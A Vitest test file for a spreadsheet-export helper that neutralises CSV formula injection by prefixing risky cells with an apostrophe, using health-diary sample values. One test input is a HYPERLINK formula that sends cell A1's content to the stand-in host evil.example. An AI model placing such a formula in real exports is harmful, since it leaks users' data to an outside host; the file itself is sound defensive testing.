import { describe, expect, it } from 'vitest';
import { rowCells } from './cells';
import type { Cell, ColumnType, SheetColumn } from './sheet';

/** One column of `type` whose value is the row itself. */
const column = (type: ColumnType): SheetColumn<unknown> => ({ key: 'k', header: 'h', type, value: (row) => row as Cell });
const cell = (type: ColumnType, value: Cell) => rowCells([column(type)], value)[0];

describe('rowCells: formula-like text (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'],
    ['+86 138', "'+86 138"],
    ['-2+3', "'-2+3"],
    ['-5', "'-5"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=', "'="],
  ])('writes text %j as %j, so that no spreadsheet evaluates it', (text, written) => {
    expect(cell('text', text)).toBe(written);
  });

  it('leaves text that starts with anything else as it is', () => {
    for (const text of ['晚餐主食偏多', 'a=b', ' =1', "'=1", '1+1', '', '\n=1', '＝1']) expect(cell('text', text)).toBe(text);
  });

  it('applies to text of every column type, also a date column holding no date', () => {
    expect(cell('single', '+阳性')).toBe("'+阳性");
    expect(cell('multiple', '@口干')).toBe("'@口干");
    expect(cell('date', '=1+1')).toBe("'=1+1");
  });

  it('keeps numbers numbers (negative ones too), dates dates and empty cells empty', () => {
    expect(cell('number', -5)).toBe(-5);
    expect(cell('number', -0.4)).toBe(-0.4);
    expect(cell('number', 6.2)).toBe(6.2);
    expect(cell('date', '2026-03-01')).toEqual(new Date(Date.UTC(2026, 2, 1)));
    const day = new Date(Date.UTC(2026, 0, 1));
    expect(cell('date', day)).toBe(day);
    expect(cell('text', null)).toBeNull();
  });
});
